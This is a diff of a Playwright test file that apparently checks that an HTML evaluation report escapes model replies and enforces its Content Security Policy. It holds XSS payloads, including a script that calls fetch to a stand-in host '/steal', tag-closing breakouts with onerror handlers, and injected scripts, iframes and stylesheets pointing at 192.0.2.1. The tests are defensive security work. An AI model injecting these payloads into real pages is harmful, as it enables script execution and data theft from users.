@@ -10,8 +10,8 @@ import zlib
 from collections.abc import Callable
 from pathlib import Path
 
-import pytest
-from playwright.sync_api import Page
+from playwright.sync_api import Browser, Page
+from pytest_httpserver import HTTPServer
 
 from jmedethic_pytest.records import BaselineScores, Verdict
 from jmedethic_pytest.reporting import page
@@ -22,7 +22,7 @@ Visit = Callable[..., Page]
 Make = Callable[..., Verdict]
 
 _RTL, _ZERO, _LINE = "\u202e", "\u0000", "\u2028"
-HOSTILE = {
+HOSTILE = {  # by what each of them tries
     "script": "<script>document.title = 'ran'; fetch('http://192.0.2.1/steal')</script>",
     "closing script": "</script><script>document.title = 'ran'</script><!--",
     "closing textarea": "</textarea></template></title><img src=x onerror=\"document.title = 'ran'\">",
@@ -41,17 +41,23 @@ def opened(tab: Page) -> Page:
     return tab
 
 
-@pytest.mark.parametrize("name", HOSTILE)
-def test_hostile_reply_and_reason_are_shown_as_they_are(
-    visit: Visit, make_page: Callable[..., Path], made_verdict: Make, name: str
+def test_hostile_replies_and_reasons_are_shown_as_they_are(
+    visit: Visit, make_page: Callable[..., Path], made_verdict: Make
 ) -> None:
-    text = HOSTILE[name]
-    report = make_page([made_verdict(0, 9.0, 1.5, reply=text, reason=f"reason {text}")])
-    tab = opened(visit(report, "#case=en-made-00"))
-    assert tab.locator("dialog .bubble.answer").first.text_content() == text
-    assert tab.locator("dialog .judges .reason").first.text_content() == f"reason {text}"
+    verdicts = [
+        made_verdict(number, 9.0, 1.5, reply=text, reason=f"reason {text}")
+        for number, text in enumerate(HOSTILE.values())
+    ]
+    tab = opened(visit(make_page(verdicts), f"#case={verdicts[0].key}"))
+    for verdict in verdicts:
+        tab.wait_for_function("key => document.querySelector('dialog h2').textContent === key", arg=verdict.key)
+        text = verdict.turns[0].reply.text
+        assert tab.locator("dialog .bubble.answer").all_text_contents() == [text, text]
+        assert tab.locator("dialog .judges .reason").first.text_content() == f"reason {text}"
+        assert tab.locator("dialog img, dialog script, dialog style, dialog svg, dialog .bubble a").count() == 0
+        if verdict is not verdicts[-1]:
+            tab.locator("#case-next").click()
     assert tab.title() == "FAIL · made:model · jmedethic"
-    assert tab.locator("dialog img, dialog script, dialog style, dialog svg, dialog .bubble a").count() == 0
 
 
 def test_direction_marks_and_control_characters_are_made_visible(
@@ -108,6 +114,28 @@ def test_the_policy_allows_the_one_script_and_nothing_else(visit: Visit, demo_ru
     source = (demo_run / "report.html").read_text(encoding="utf-8")
     assert not re.search(r"\son\w+\s*=\s*[\"']", re.sub(r"<script>.*?</script>", "", source, flags=re.DOTALL))
     assert not re.search(r"(?:src|href)=[\"']?(?:https?:)?//", source)
+
+
+def test_what_is_smuggled_into_the_source_neither_runs_nor_loads(
+    chromium: Browser, make_page: Callable[..., Path], made_verdict: Make, httpserver: HTTPServer
+) -> None:
+    report = make_page([made_verdict(0, 9.0)])
+    smuggled = """<body><script>document.title = "ran"</script><img src="http://192.0.2.1/x.png">
+        <p id="probe" onclick="document.title = 'ran'">probe</p><script src="http://192.0.2.1/x.js"></script>
+        <iframe src="http://192.0.2.1/"></iframe><link rel="stylesheet" href="http://192.0.2.1/x.css">"""
+    smuggled = smuggled.replace("http://192.0.2.1", httpserver.url_for("").rstrip("/"))
+    source = report.read_text(encoding="utf-8")
+    report.write_text(source.replace("<body>", smuggled, 1), encoding="utf-8")
+    tab = chromium.new_page()
+    refused: list[str] = []
+    tab.on("console", lambda line: refused.append(line.text))
+    tab.goto(report.as_uri())
+    tab.wait_for_selector("html[data-ready]", state="attached")
+    tab.locator("#probe").click()
+    assert tab.title() == "INCONCLUSIVE · made:model · jmedethic"
+    assert httpserver.log == []
+    assert len([text for text in refused if "Content Security Policy" in text]) >= 5
+    tab.close()
 
 
 # ---------------------------------------------------------------- figures
